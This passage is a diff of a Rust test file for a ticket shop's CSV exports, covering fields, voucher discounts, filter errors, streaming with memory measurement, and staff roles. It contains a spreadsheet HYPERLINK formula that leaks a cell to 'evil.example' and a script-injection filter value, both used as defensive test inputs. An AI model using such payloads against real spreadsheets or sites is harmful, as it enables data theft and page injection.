@@ -1,10 +1,11 @@
 //! Exports over HTTP: a sale's orders and attendees as CSV (fields,
-//! filters, quoting, the formula guard, refunded and redeemed codes), an
-//! export of 100,000 codes that streams, who may export, and the door's
-//! list.
+//! filters, quoting, the formula guard, refunded and redeemed codes, what a
+//! voucher took off), filters that cannot be read, an export of 100,000
+//! codes streamed by a `holdfast serve` process whose memory is measured,
+//! who may export, and the door's list.
 
 use std::collections::HashMap;
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
 use chrono::{DateTime, FixedOffset, Utc};
 use holdfast::clock::ShopZone;
@@ -12,15 +13,13 @@ use holdfast::staff::roles::Role;
 use reqwest::StatusCode;
 use reqwest::header::{CONTENT_DISPOSITION, CONTENT_LENGTH, CONTENT_TYPE};
 
-use crate::admin::STAFF_EMAIL;
-use crate::checkout::paid;
-use crate::helpers::*;
-use crate::journey::{checkout_key, form_lines, pay_and_return};
+use holdfast_testkit::engine::paid;
+use holdfast_testkit::*;
 
 const BOM: &str = "\u{feff}";
 const ORDER_COLUMNS: &str = "order_id,placed_at,paid_at,state,flag,customer_name,customer_email,\
-    lines,units,units_refunded,currency,amount_minor,amount,refunded_minor,refunded,provider,\
-    payment_ref,pickup_code";
+    lines,units,units_refunded,currency,subtotal_minor,voucher,discount_minor,discount,\
+    amount_minor,amount,refunded_minor,refunded,provider,payment_ref,pickup_code";
 const ATTENDEE_COLUMNS: &str = "code,kind,admits,product_id,starts_at,customer_name,\
     customer_email,order_id,order_state,paid_at,redeemed,redeemed_at,redeemed_by,redeemed_where,\
     refunded";
@@ -204,7 +203,7 @@ async fn redeem(app: &TestApp, staff: &reqwest::Client, csrf: &str, code: &str, 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_sales_orders_and_attendees_are_in_the_csvs_with_their_fields_and_filters() {
     let (app, staff, csrf) = shop_in_berlin().await;
-    let slot = app.first_slot().await;
+    let slot = app.db.first_slot().await;
     let concert = paid(
         &app.db,
         "exp-concert",
@@ -217,7 +216,11 @@ async fn a_sales_orders_and_attendees_are_in_the_csvs_with_their_fields_and_filt
     let pantry = paid(&app.db, "exp-pantry", &[("wild-honey", 1)]).await;
     rename(&app, pantry.id, "Dee Pantry").await;
     // and one still paying: an order, but no codes yet
-    let (_, pending) = app.shopper_mid_checkout("harbour-lights-vip", 1).await;
+    let pending = app
+        .start(&browser(), &Purchase::of("harbour-lights-vip", 1))
+        .await
+        .order_id
+        .to_string();
 
     // one general ticket used at the north door, the VIP seat refunded
     let tickets: Vec<(String, String)> = sqlx::query_as(
@@ -260,13 +263,22 @@ async fn a_sales_orders_and_attendees_are_in_the_csvs_with_their_fields_and_filt
     assert_eq!(row["customer_email"], "ada@example.com");
     assert_eq!(
         row["lines"],
-        "2 × Harbour Lights — General admission; 1 × Harbour Lights — VIP"
+        "2 × Harbour Lights — General admission (€70.00); 1 × Harbour Lights — VIP (€90.00)"
     );
     assert_eq!(
         (row["units"].as_str(), row["units_refunded"].as_str()),
         ("3", "1")
     );
     assert_eq!(row["currency"], "EUR");
+    assert_eq!(row["subtotal_minor"], "16000");
+    assert_eq!(
+        (
+            row["voucher"].as_str(),
+            row["discount_minor"].as_str(),
+            row["discount"].as_str()
+        ),
+        ("", "0", "€0.00")
+    );
     assert_eq!(
         (row["amount_minor"].as_str(), row["amount"].as_str()),
         ("16000", "€160.00")
@@ -446,11 +458,11 @@ async fn a_sales_orders_and_attendees_are_in_the_csvs_with_their_fields_and_filt
     };
     assert_eq!(
         just_codes(attendees(&app, &staff, "product=harbour-lights-vip").await),
-        [vip.clone()]
+        [vip.as_str()]
     );
     assert_eq!(
         just_codes(attendees(&app, &staff, "collection=bakery").await),
-        [pickup.clone()]
+        [pickup.as_str()]
     );
     let slot_day = berlin.today(slot_starts).to_string();
     assert_eq!(
@@ -462,32 +474,10 @@ async fn a_sales_orders_and_attendees_are_in_the_csvs_with_their_fields_and_filt
             )
             .await
         ),
-        [pickup.clone()]
+        [pickup.as_str()]
     );
     assert_eq!(attendees(&app, &staff, "state=paid").await.len(), 4);
     assert!(attendees(&app, &staff, "state=refunded").await.is_empty());
-
-    // ---- what cannot be read is said, and nothing is exported
-    for (query, status) in [
-        ("state=lost", StatusCode::BAD_REQUEST),
-        ("paid_from=1+December", StatusCode::BAD_REQUEST),
-        (
-            "starts_from=2026-12-02&starts_to=2026-12-01",
-            StatusCode::BAD_REQUEST,
-        ),
-        ("product=no-such-thing", StatusCode::NOT_FOUND),
-        ("collection=no-such-sale", StatusCode::NOT_FOUND),
-    ] {
-        for what in ["orders", "attendees"] {
-            let response = staff
-                .get(format!("{}/admin/exports/{what}.csv?{query}", app.address))
-                .send()
-                .await
-                .unwrap();
-            assert_eq!(response.status(), status, "{what} {query}");
-            assert!(response.headers().get(CONTENT_DISPOSITION).is_none());
-        }
-    }
 
     // ---- each export is in Activity: who, what, which filter
     let recorded: Vec<(String, i64)> = sqlx::query_as(
@@ -525,29 +515,13 @@ const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click, h
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn hostile_names_are_quoted_and_never_run_as_formulas() {
     let (app, staff, _) = shop_in_berlin().await;
-    let shopper = browser();
-    app.add(&shopper, "harbour-lights-general", 1).await;
-    let basket = shopper
-        .get(format!("{}/basket", app.address))
-        .send()
-        .await
-        .unwrap()
-        .text()
-        .await
-        .unwrap();
-    let started = shopper
-        .post(format!("{}/checkout", app.address))
-        .form(&[
-            ("checkout_key", checkout_key(&basket).as_str()),
-            ("name", HYPERLINK),
-            ("email", "mallory@example.com"),
-            ("lines", form_lines(&basket).as_str()),
-        ])
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(started.status(), StatusCode::SEE_OTHER);
-    pay_and_return(&app, &shopper, &location(&started), "pay").await;
+    let bought = app
+        .buy(
+            &browser(),
+            &Purchase::of("harbour-lights-general", 1).by(HYPERLINK, "mallory@example.com"),
+        )
+        .await;
+    app.wait_for_state(&bought.started.token, "paid").await;
     // names the checkout form refuses (control characters) but a database
     // may hold from elsewhere, and names that are only awkward
     let others = [
@@ -613,54 +587,115 @@ async fn hostile_names_are_quoted_and_never_run_as_formulas() {
 
 /// The export's query, as PostgreSQL is running it now (its state and what
 /// it waits for), if it is.
-async fn export_query(app: &TestApp) -> Option<(String, Option<String>)> {
+async fn export_query(pool: &sqlx::PgPool) -> Option<(String, Option<String>)> {
     sqlx::query_as(
         "select state, wait_event from pg_stat_activity \
           where datname = current_database() and pid <> pg_backend_pid() \
             and query like '-- holdfast export: attendees%' and state = 'active'",
     )
-    .fetch_optional(&app.db.pool)
+    .fetch_optional(pool)
     .await
     .unwrap()
 }
 
-/// Reads the rest of a download, counting its lines (CRLF) as they come;
-/// (bytes, lines, chunks) with what was read before.
-async fn read_counting(
-    response: &mut reqwest::Response,
-    mut bytes: usize,
-    mut lines: usize,
-    mut last: u8,
-) -> (usize, usize, usize) {
-    let mut chunks = 0;
-    while let Some(chunk) = response.chunk().await.unwrap() {
-        chunks += 1;
-        bytes += chunk.len();
-        lines += chunk.windows(2).filter(|w| w == b"\r\n").count();
-        if last == b'\r' && chunk.first() == Some(&b'\n') {
-            lines += 1;
-        }
-        last = *chunk.last().unwrap_or(&last);
-    }
-    assert_eq!(last, b'\n', "the file ends with its last line");
-    (bytes, lines, chunks)
+/// A process's resident memory now, and its peak since the last
+/// [`reset_peak`], in bytes (`VmRSS`, `VmHWM` of `/proc/<pid>/status`).
+fn memory(pid: u32) -> (u64, u64) {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let kib = |name: &str| -> u64 {
+        let line = status
+            .lines()
+            .find(|l| l.starts_with(name))
+            .unwrap_or_else(|| panic!("no {name} in /proc/{pid}/status"));
+        let n: u64 = line.split_whitespace().nth(1).unwrap().parse().unwrap();
+        n * 1024
+    };
+    (kib("VmRSS:"), kib("VmHWM:"))
 }
 
-/// 100,000 codes stream, and are read from PostgreSQL only as fast as the
-/// client takes them. A whole download first, to time it (T); then one the
-/// client stops reading after its first chunk: PostgreSQL must still be in
-/// the query 2T later, stuck writing rows nobody reads (`ClientWrite`). A
-/// server that built the file in memory (`fetch_all`) would have read every
-/// row before the first byte left; one that read rows ahead into memory
-/// while the body trickled out would have read them all within T. Either
-/// way the query would be over: this test fails for both (tried, with each
-/// put in `stream_csv` for a run).
+/// Starts a process's peak resident memory afresh from what it holds now
+/// (`5` into `/proc/<pid>/clear_refs`, Linux 4.0 and later).
+fn reset_peak(pid: u32) {
+    std::fs::write(format!("/proc/{pid}/clear_refs"), "5").unwrap();
+}
+
+fn mib(bytes: u64) -> f64 {
+    bytes as f64 / (1024.0 * 1024.0)
+}
+
+/// A staff browser signed in to the shop at `address`.
+async fn staff_at(address: &str) -> reqwest::Client {
+    let staff = browser();
+    let form = read_page(&staff, &format!("{address}/admin/login")).await;
+    let signed_in = staff
+        .post(format!("{address}/admin/login"))
+        .form(&[
+            ("email", STAFF_EMAIL),
+            ("password", STAFF_PASSWORD),
+            ("csrf", &hidden(&form, "csrf")),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(signed_in.status(), StatusCode::SEE_OTHER);
+    staff
+}
+
+/// What a download brought so far: its bytes, its lines (CRLF), and the
+/// last byte (a CRLF may be split between two chunks).
+#[derive(Debug, Default)]
+struct Received {
+    bytes: u64,
+    lines: u64,
+    chunks: u64,
+    last: u8,
+}
+
+impl Received {
+    fn take(&mut self, chunk: &[u8]) {
+        self.chunks += 1;
+        self.bytes += chunk.len() as u64;
+        self.lines += chunk.windows(2).filter(|w| w == b"\r\n").count() as u64;
+        if self.last == b'\r' && chunk.first() == Some(&b'\n') {
+            self.lines += 1;
+        }
+        self.last = *chunk.last().unwrap_or(&self.last);
+    }
+}
+
+/// 100,000 codes are exported by a `holdfast serve` process of its own, so
+/// that its memory is its own to measure, while the client reads the file
+/// a chunk at a time and keeps none of it. The file is some 60 MB; were it
+/// made in memory (`fetch_all`, or rows read ahead into a buffer), the
+/// server would hold it, and its rows, at once. Streamed, the rows come
+/// from PostgreSQL as the client takes them: after the first chunk, with
+/// the client not reading, PostgreSQL waits to send more (`ClientWrite`);
+/// and the server's peak resident memory while the whole file passes
+/// through grows by a small fraction of the file.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_hundred_thousand_codes_stream_and_never_sit_in_memory() {
-    let (app, staff, _) = shop_in_berlin().await;
-    let order = paid(&app.db, "bulk", &[("harbour-lights-general", 1)]).await;
-    // a long name and address, so the file (some 60 MB) is far larger than
-    // every buffer between PostgreSQL and the client
+    let db = TestDb::new().await;
+    db.load_demo().await;
+    let sandbox = spawn_sandbox();
+    let port = free_port();
+    let mut command = holdfast_process(env!("CARGO_BIN_EXE_holdfast"), &db, &sandbox, &["serve"]);
+    command.env("HOLDFAST_ADDR", format!("127.0.0.1:{port}"));
+    let server = Server {
+        child: command.spawn().expect("start holdfast serve"),
+        address: format!("http://127.0.0.1:{port}"),
+    };
+    ready(&server).await;
+    let pid = server.child.id();
+    holdfast::staff::add_staff(
+        &db.pool,
+        &holdfast::staff::StaffEmail::parse(STAFF_EMAIL).unwrap(),
+        &holdfast::configuration::Secret::new(STAFF_PASSWORD),
+    )
+    .await
+    .unwrap();
+    let order = paid(&db, "bulk", &[("harbour-lights-general", 1)]).await;
+    // a long name and address, so that the file is far larger than every
+    // buffer between PostgreSQL and the client
     let name: String = format!("Augusta Ada King, Countess of Lovelace {}", "x".repeat(200))
         .chars()
         .take(200)
@@ -669,7 +704,7 @@ async fn a_hundred_thousand_codes_stream_and_never_sit_in_memory() {
         .bind(order.id)
         .bind(&name)
         .bind(format!("{}@example.com", "a".repeat(200)))
-        .execute(&app.db.pool)
+        .execute(&db.pool)
         .await
         .unwrap();
     let inserted = sqlx::query(
@@ -678,104 +713,129 @@ async fn a_hundred_thousand_codes_stream_and_never_sit_in_memory() {
            from generate_series(1, 100000) g",
     )
     .bind(order.id)
-    .execute(&app.db.pool)
+    .execute(&db.pool)
     .await
     .unwrap();
     assert_eq!(inserted.rows_affected(), 100_000);
-    let url = format!(
-        "{}/admin/exports/attendees.csv?product=harbour-lights-general",
-        app.address
-    );
+    let staff = staff_at(&server.address).await;
 
-    // the whole file, read as fast as it comes, its lines counted
-    let asked = Instant::now();
-    let mut whole = staff.get(&url).send().await.unwrap();
-    assert_eq!(whole.status(), StatusCode::OK);
-    let (bytes, lines, chunks) = read_counting(&mut whole, 0, 0, 0).await;
-    let took = asked.elapsed();
-    assert_eq!(lines, 1 + 100_001, "the header and every code");
-    assert!(bytes > 50_000_000, "{bytes} bytes");
-    eprintln!("100,001 codes: {bytes} bytes in {chunks} chunks, read whole in {took:?}");
+    // a small export first, so that what every export allocates once (the
+    // pool's connection, the templates, the runtime's buffers) is there
+    // before the peak is measured
+    let warm = staff
+        .get(format!(
+            "{}/admin/exports/attendees.csv?product=harbour-lights-vip",
+            server.address
+        ))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(warm.status(), StatusCode::OK);
+    warm.bytes().await.unwrap();
+    let (before, _) = memory(pid);
+    reset_peak(pid);
 
-    // again, the client taking only the first chunk
-    let asked = Instant::now();
-    let mut response = staff.get(&url).send().await.unwrap();
+    let mut response = staff
+        .get(format!(
+            "{}/admin/exports/attendees.csv?product=harbour-lights-general",
+            server.address
+        ))
+        .send()
+        .await
+        .unwrap();
     assert_eq!(response.status(), StatusCode::OK);
     assert!(
         response.headers().get(CONTENT_LENGTH).is_none(),
         "a streamed body has no length ahead of it"
     );
+    let mut got = Received::default();
     let first = response.chunk().await.unwrap().expect("a first chunk");
-    let first_byte = asked.elapsed();
     assert!(first.starts_with(format!("{BOM}code,kind,").as_bytes()));
-    let mut stuck = None;
-    for _ in 0..100 {
-        if let Some((_, Some(wait))) = export_query(&app).await
+    got.take(&first);
+
+    // the client stops reading: PostgreSQL is left with rows to send and
+    // waits for the server to take them, which it does only for the client
+    let mut waiting = None;
+    for _ in 0..300 {
+        if let Some((_, Some(wait))) = export_query(&db.pool).await
             && wait == "ClientWrite"
         {
-            stuck = Some(wait);
+            waiting = Some(wait);
             break;
         }
         tokio::time::sleep(Duration::from_millis(100)).await;
     }
     assert_eq!(
-        stuck.as_deref(),
+        waiting.as_deref(),
         Some("ClientWrite"),
         "PostgreSQL should be waiting for the server to take more rows"
     );
-    // twice as long as the whole file took: whatever read ahead would be done
-    let paused = Instant::now();
-    tokio::time::sleep(took * 2 + Duration::from_secs(1)).await;
-    assert_eq!(
-        export_query(&app)
-            .await
-            .and_then(|(_, wait)| wait)
-            .as_deref(),
-        Some("ClientWrite"),
-        "{:?} later, PostgreSQL is still stuck sending rows nobody reads",
-        paused.elapsed()
-    );
+    let (paused, _) = memory(pid);
 
-    // the client reads on, and gets every line
-    let before = first.windows(2).filter(|w| w == b"\r\n").count();
-    let (bytes, lines, _) =
-        read_counting(&mut response, first.len(), before, *first.last().unwrap()).await;
+    // the client reads on, a chunk at a time, keeping none of it
+    let mut sampled = paused;
+    let mut next_sample = got.bytes;
+    while let Some(chunk) = response.chunk().await.unwrap() {
+        got.take(&chunk);
+        if got.bytes >= next_sample {
+            sampled = sampled.max(memory(pid).0);
+            next_sample = got.bytes + 1024 * 1024;
+        }
+    }
+    let (after, peak) = memory(pid);
+    let peak = peak.max(sampled);
+    assert_eq!(got.last, b'\n', "the file ends with its last line");
+    assert_eq!(got.lines, 1 + 100_001, "the header and every code");
+    assert!(got.bytes > 50_000_000, "{} bytes", got.bytes);
+    let grew = peak.saturating_sub(before);
     eprintln!(
-        "paused: first chunk ({} bytes, {before} lines) after {first_byte:?}; \
-         still in the query after a pause of {:?}",
+        "100,001 codes: {:.1} MiB in {} chunks (the first {} bytes); holdfast serve's \
+         resident memory {:.1} MiB before, {:.1} MiB with the client paused after the first \
+         chunk, peak {:.1} MiB (+{:.1} MiB), {:.1} MiB after",
+        mib(got.bytes),
+        got.chunks,
         first.len(),
-        took * 2 + Duration::from_secs(1)
+        mib(before),
+        mib(paused),
+        mib(peak),
+        mib(grew),
+        mib(after),
     );
-    assert_eq!(lines, 1 + 100_001);
     assert!(
-        first.len() * 100 < bytes,
-        "the first chunk was a small part"
+        grew < 16 * 1024 * 1024 && grew * 4 < got.bytes,
+        "the server's memory grew by {:.1} MiB for a file of {:.1} MiB",
+        mib(grew),
+        mib(got.bytes)
     );
     // and the query is over once the last row went out
     for _ in 0..50 {
-        if export_query(&app).await.is_none() {
+        if export_query(&db.pool).await.is_none() {
             break;
         }
         tokio::time::sleep(Duration::from_millis(100)).await;
     }
-    assert!(export_query(&app).await.is_none());
+    assert!(export_query(&db.pool).await.is_none());
 }
 
-const EXPORT_PAGES: [&str; 4] = [
+/// The exports pages, which the door may not see.
+const EXPORT_PAGES: [&str; 3] = [
     "/admin/exports",
     "/admin/exports/orders.csv",
     "/admin/exports/attendees.csv",
-    "/admin/exports/door?collection=harbour-lights",
 ];
+const DOOR_LIST: &str = "/admin/door-list?collection=harbour-lights";
 
 #[tokio::test]
-async fn the_box_office_may_export_and_the_door_may_not() {
+async fn the_box_office_may_export_and_the_door_may_only_see_the_doors_list() {
     let app = spawn_app().await;
     app.load_demo().await;
     app.add_staff().await;
     paid(&app.db, "roles", &[("harbour-lights-vip", 1)]).await;
     // without a session: nothing
-    for path in EXPORT_PAGES {
+    for path in EXPORT_PAGES
+        .into_iter()
+        .chain([DOOR_LIST, "/admin/door-list"])
+    {
         let response = app
             .client
             .get(format!("{}{path}", app.address))
@@ -790,10 +850,10 @@ async fn the_box_office_may_export_and_the_door_may_not() {
     set_role(&app, Role::BoxOffice).await;
     let page = app.admin_page(&staff, "/admin/orders").await;
     assert!(
-        page.contains("href=\"/admin/exports\""),
-        "the box office's link"
+        page.contains("href=\"/admin/exports\"") && page.contains("href=\"/admin/door-list\""),
+        "the box office's links"
     );
-    for path in EXPORT_PAGES {
+    for path in EXPORT_PAGES.into_iter().chain([DOOR_LIST]) {
         let response = staff
             .get(format!("{}{path}", app.address))
             .send()
@@ -806,6 +866,10 @@ async fn the_box_office_may_export_and_the_door_may_not() {
     assert!(
         !page.contains("/admin/exports"),
         "no Exports link for the door"
+    );
+    assert!(
+        page.contains("href=\"/admin/door-list\""),
+        "the door's lists are the door's"
     );
     for path in EXPORT_PAGES {
         let response = staff
@@ -821,20 +885,36 @@ async fn the_box_office_may_export_and_the_door_may_not() {
             "{text}"
         );
     }
+    // the door's own way to its lists, and a list: no CSV offered
+    let lists = app.admin_page(&staff, "/admin/door-list").await;
+    assert!(lists.contains(&format!("href=\"{DOOR_LIST}\"")), "{lists}");
+    assert!(!lists.contains("/admin/exports"), "{lists}");
+    let list = app.admin_page(&staff, DOOR_LIST).await;
+    assert!(list.contains("id=\"door-list\"") && list.contains("TKT-"));
     let refused: Vec<String> = sqlx::query_scalar(
         "select detail->>'needs' from staff_actions where action = 'refused' order by id",
     )
     .fetch_all(&app.db.pool)
     .await
     .unwrap();
-    assert_eq!(refused, ["exports"; 4]);
-    let exported: i64 = sqlx::query_scalar(
-        "select count(*) from staff_actions where action in ('export_orders', 'export_attendees', 'door_list')",
+    assert_eq!(refused, ["exports"; 3]);
+    let exported: Vec<(String, String)> = sqlx::query_as(
+        "select action, detail->>'role' from staff_actions \
+          where action in ('export_orders', 'export_attendees', 'door_list') order by id",
     )
-    .fetch_one(&app.db.pool)
+    .fetch_all(&app.db.pool)
     .await
     .unwrap();
-    assert_eq!(exported, 3, "the box office's three, none of the door's");
+    assert_eq!(
+        exported,
+        [
+            ("export_orders".to_owned(), "box_office".to_owned()),
+            ("export_attendees".to_owned(), "box_office".to_owned()),
+            ("door_list".to_owned(), "box_office".to_owned()),
+            ("door_list".to_owned(), "door".to_owned()),
+        ],
+        "the box office's three and the door's list, each with who asked"
+    );
 }
 
 /// The rows of the door's list: (name, code, class).
@@ -876,7 +956,7 @@ async fn the_doors_list_is_by_name_with_a_box_per_code_and_used_ones_marked() {
         orders.push(order);
     }
     // a slot's order is not on the concert's list
-    let slot = app.first_slot().await;
+    let slot = app.db.first_slot().await;
     paid(&app.db, "door-slot", &[(slot.as_str(), 1)]).await;
     let code_of = |order: uuid::Uuid| {
         let pool = app.db.pool.clone();
@@ -907,7 +987,7 @@ async fn the_doors_list_is_by_name_with_a_box_per_code_and_used_ones_marked() {
     assert_eq!(refunded.status(), StatusCode::SEE_OTHER);
 
     let page = app
-        .admin_page(&staff, "/admin/exports/door?collection=harbour-lights")
+        .admin_page(&staff, "/admin/door-list?collection=harbour-lights")
         .await;
     let rows = door_rows(&page);
     let names: Vec<&str> = rows.iter().map(|r| r.0.as_str()).collect();
@@ -963,7 +1043,7 @@ async fn the_doors_list_is_by_name_with_a_box_per_code_and_used_ones_marked() {
     assert!(!page.contains("Ada Shopper") && !page.contains("Pickup:"));
     // one tier; one slot, with its pickup code
     let vip = app
-        .admin_page(&staff, "/admin/exports/door?product=harbour-lights-vip")
+        .admin_page(&staff, "/admin/door-list?product=harbour-lights-vip")
         .await;
     let vip_names: Vec<String> = door_rows(&vip).into_iter().map(|r| r.0).collect();
     assert_eq!(vip_names, ["Cy Refunded", "Zed Last"]);
@@ -972,7 +1052,7 @@ async fn the_doors_list_is_by_name_with_a_box_per_code_and_used_ones_marked() {
         "{vip}"
     );
     let bakery = app
-        .admin_page(&staff, &format!("/admin/exports/door?product={slot}"))
+        .admin_page(&staff, &format!("/admin/door-list?product={slot}"))
         .await;
     assert_eq!(door_rows(&bakery).len(), 1);
     assert!(bakery.contains("Pickup: Sourdough box"), "{bakery}");
@@ -995,7 +1075,7 @@ async fn the_doors_list_is_by_name_with_a_box_per_code_and_used_ones_marked() {
 
     // a door's list names a sale, and is in Activity
     let unnamed = staff
-        .get(format!("{}/admin/exports/door", app.address))
+        .get(format!("{}/admin/door-list?state=", app.address))
         .send()
         .await
         .unwrap();
@@ -1025,17 +1105,238 @@ async fn the_doors_list_is_by_name_with_a_box_per_code_and_used_ones_marked() {
     .await
     .unwrap();
     let many = app
-        .admin_page(&staff, "/admin/exports/door?product=harbour-lights-general")
+        .admin_page(&staff, "/admin/door-list?product=harbour-lights-general")
         .await;
     assert!(many.contains("id=\"too-many\"") && many.contains("More than 5000 codes"));
     assert!(!many.contains("id=\"door-list\""));
     // the exports page offers the lists
     let exports = app.admin_page(&staff, "/admin/exports").await;
-    assert!(exports.contains("/admin/exports/door?collection=harbour-lights"));
-    assert!(exports.contains(&format!("/admin/exports/door?product={slot}")));
+    assert!(exports.contains("/admin/door-list?collection=harbour-lights"));
+    assert!(exports.contains(&format!("/admin/door-list?product={slot}")));
     assert!(
-        !exports.contains("/admin/exports/door?product=wild-honey"),
+        !exports.contains("/admin/door-list?product=wild-honey"),
         "honey has no codes"
     );
     assert!(hidden_attr(&exports, "formaction").starts_with("/admin/exports/"));
+}
+
+/// Text as a page escapes it, read back (askama's escapes).
+fn unescaped(html: &str) -> String {
+    html.replace("&#34;", "\"")
+        .replace("&#39;", "'")
+        .replace("&#60;", "<")
+        .replace("&#62;", ">")
+        .replace("&lt;", "<")
+        .replace("&gt;", ">")
+        .replace("&#38;", "&")
+        .replace("&amp;", "&")
+}
+
+/// What staff_actions holds: every row, as text.
+async fn activity(app: &TestApp) -> Vec<String> {
+    sqlx::query_scalar("select row(a.*)::text from staff_actions a order by id")
+        .fetch_all(&app.db.pool)
+        .await
+        .unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_filter_that_cannot_be_read_is_said_on_the_page_and_nothing_is_exported() {
+    let (app, staff, _) = shop_in_berlin().await;
+    paid(&app.db, "bad-filters", &[("harbour-lights-vip", 1)]).await;
+    let before = snapshot(&app.db.pool).await;
+    let recorded = activity(&app).await;
+    for (query, status, said) in [
+        (
+            "state=lost",
+            StatusCode::BAD_REQUEST,
+            "Order state: \"lost\" is not one; an order is pending, paid",
+        ),
+        (
+            "paid_from=1+December",
+            StatusCode::BAD_REQUEST,
+            "Paid from: \"1 December\" is not a date. Write it as 2026-12-01.",
+        ),
+        (
+            "paid_to=2026-02-30",
+            StatusCode::BAD_REQUEST,
+            "Paid to: \"2026-02-30\" is not a date.",
+        ),
+        (
+            "starts_from=0001-01-01",
+            StatusCode::BAD_REQUEST,
+            "Starts from: \"0001-01-01\" is not a year the shop sells in.",
+        ),
+        (
+            "starts_from=2026-12-02&starts_to=2026-12-01",
+            StatusCode::BAD_REQUEST,
+            "starts from 2026-12-02 is after starts to 2026-12-01",
+        ),
+        (
+            "collection=bakery&product=harbour-lights-vip",
+            StatusCode::BAD_REQUEST,
+            "\"harbour-lights-vip\" is part of \"harbour-lights\", not of \
+             \"bakery\"",
+        ),
+        (
+            "product=no-such-thing",
+            StatusCode::NOT_FOUND,
+            "The shop has no product, tier or slot \"no-such-thing\".",
+        ),
+        (
+            "collection=no-such-sale",
+            StatusCode::NOT_FOUND,
+            "The shop has no event or shop part \"no-such-sale\".",
+        ),
+        (
+            "state=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+            StatusCode::BAD_REQUEST,
+            "\"<script>alert(1)</script>\" is not one",
+        ),
+    ] {
+        for path in [
+            "/admin/exports/orders.csv",
+            "/admin/exports/attendees.csv",
+            "/admin/door-list",
+        ] {
+            let response = staff
+                .get(format!("{}{path}?{query}", app.address))
+                .send()
+                .await
+                .unwrap();
+            assert_eq!(response.status(), status, "{path}?{query}");
+            assert!(response.headers().get(CONTENT_DISPOSITION).is_none());
+            assert!(
+                response.headers()[CONTENT_TYPE]
+                    .to_str()
+                    .unwrap()
+                    .starts_with("text/html")
+            );
+            let page = response.text().await.unwrap();
+            let notice = &page[page.find("id=\"export-error\"").expect("the error")..];
+            let notice = unescaped(&notice[..notice.find("</div>").unwrap()]);
+            assert!(notice.contains(said), "{path}?{query}: {notice}");
+            assert!(
+                notice.contains("Nothing was exported.") || notice.contains("No list was made."),
+                "{notice}"
+            );
+            assert!(!page.contains("<script>alert"), "escaped");
+            assert!(!page.contains("TKT-"), "no code on a refused page");
+        }
+    }
+    // the exports page sends the form back as it was sent
+    let page = staff
+        .get(format!(
+            "{}/admin/exports/orders.csv?collection=harbour-lights&product=harbour-lights-vip\
+             &state=paid&paid_from=2026-12-01&paid_to=2026-11-01",
+            app.address
+        ))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        page.contains("<option value=\"harbour-lights\" selected>"),
+        "{page}"
+    );
+    assert!(page.contains("<option value=\"harbour-lights-vip\" selected>"));
+    assert!(page.contains("<option value=\"paid\" selected>"));
+    assert!(page.contains("name=\"paid_from\" value=\"2026-12-01\""));
+    assert!(page.contains("name=\"paid_to\" value=\"2026-11-01\""));
+    assert_eq!(page.matches(" selected>").count(), 3);
+    // nothing changed, nothing recorded
+    assert_eq!(snapshot(&app.db.pool).await, before);
+    assert_eq!(activity(&app).await, recorded);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_order_with_a_voucher_shows_what_each_line_paid() {
+    let (app, staff, _) = shop_in_berlin().await;
+    let created = holdfast::vouchers::create(
+        &app.db.pool,
+        &holdfast::vouchers::NewVoucher {
+            code: "FRIENDS-10".into(),
+            percent_off: Some(10),
+            amount_off_minor: None,
+            per_unit: false,
+            currency: None,
+            uses: 5,
+            products: Some(vec!["harbour-lights-vip".into()]),
+            unlocks: Vec::new(),
+            valid_from: None,
+            valid_until: None,
+            per_buyer: false,
+        },
+        "eur",
+        STAFF_EMAIL,
+    )
+    .await
+    .unwrap();
+    assert!(matches!(
+        created,
+        holdfast::vouchers::Created::Created { .. }
+    ));
+    // the shopper buys two general tickets and a VIP seat with the code
+    let shopper = browser();
+    app.add(&shopper, "harbour-lights-general", 2).await;
+    app.add(&shopper, "harbour-lights-vip", 1).await;
+    let basket = read_page(&shopper, &format!("{}/basket", app.address)).await;
+    let started = shopper
+        .post(format!("{}/checkout", app.address))
+        .form(&[
+            ("checkout_key", checkout_key(&basket).as_str()),
+            ("lines", form_lines(&basket).as_str()),
+            ("name", "Vi Voucher"),
+            ("email", "vi@example.com"),
+            ("voucher", "friends-10"),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(started.status(), StatusCode::SEE_OTHER);
+    let paid_page = pay_on_page(&location(&started), "pay").await;
+    assert_eq!(paid_page.status(), StatusCode::SEE_OTHER);
+    let back = shopper.get(location(&paid_page)).send().await.unwrap();
+    assert_eq!(back.status(), StatusCode::SEE_OTHER);
+    let token = token_of(&location(&back));
+    app.wait_for_state(&token, "paid").await;
+    let (order_id, amount_minor): (uuid::Uuid, i64) =
+        sqlx::query_as("select id, amount_minor from orders where token = $1")
+            .bind(&token)
+            .fetch_one(&app.db.pool)
+            .await
+            .unwrap();
+    // 10% off the VIP seat only: €90.00 less €9.00
+    assert_eq!(amount_minor, 7000 + 8100, "what the provider was asked for");
+
+    let rows = orders(&app, &staff, "").await;
+    assert_eq!(rows.len(), 1);
+    let row = &rows[0];
+    assert_eq!(row["order_id"], order_id.to_string());
+    assert_eq!(
+        row["lines"],
+        "2 × Harbour Lights — General admission (€70.00); 1 × Harbour Lights — VIP (€81.00)"
+    );
+    assert_eq!(row["subtotal_minor"], "16000");
+    assert_eq!(row["voucher"], "FRIENDS-10");
+    assert_eq!(
+        (row["discount_minor"].as_str(), row["discount"].as_str()),
+        ("900", "€9.00")
+    );
+    assert_eq!(
+        (row["amount_minor"].as_str(), row["amount"].as_str()),
+        ("15100", "€151.00"),
+        "what was paid, not the list price"
+    );
+    let paid_by_lines: i64 = sqlx::query_scalar(
+        "select sum(coalesce(paid_minor, unit_price_minor * qty))::int8 from order_lines \
+          where order_id = $1",
+    )
+    .bind(order_id)
